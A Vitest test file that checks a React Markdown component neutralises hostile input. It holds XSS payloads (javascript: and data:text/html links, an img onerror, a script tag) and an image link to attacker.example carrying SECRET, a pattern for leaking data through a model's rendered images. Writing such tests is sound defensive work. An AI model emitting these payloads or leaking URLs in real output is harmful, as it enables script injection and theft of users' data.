// @vitest-environment happy-dom
import { renderToStaticMarkup } from "react-dom/server";
import { expect, it } from "vitest";
import Markdown from "./markdown";

it("never runs script links, raw HTML or auto-loaded remote images", () => {
  const text = [
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>x</script>)",
    "<img src=x onerror=alert(1)> <script>alert(1)</script>",
    "![leak](https://attacker.example/p.png?q=SECRET)",
    "[docs](https://example.org/guide)",
  ].join("\n\n");
  const html = renderToStaticMarkup(<Markdown text={text} />);
  expect(html).not.toMatch(/javascript:/i);
  expect(html).not.toContain("data:text/html");
  expect(html).not.toContain("<script");
  expect(html).not.toContain("<img");
  expect(html).toContain("&lt;script&gt;"); // raw HTML shows as text
  // a model's image becomes a link the user may choose to open
  expect(html).toContain('href="https://attacker.example/p.png?q=SECRET"');
  expect(html).toContain('<a href="https://example.org/guide" target="_blank" rel="noopener noreferrer nofollow">');
});
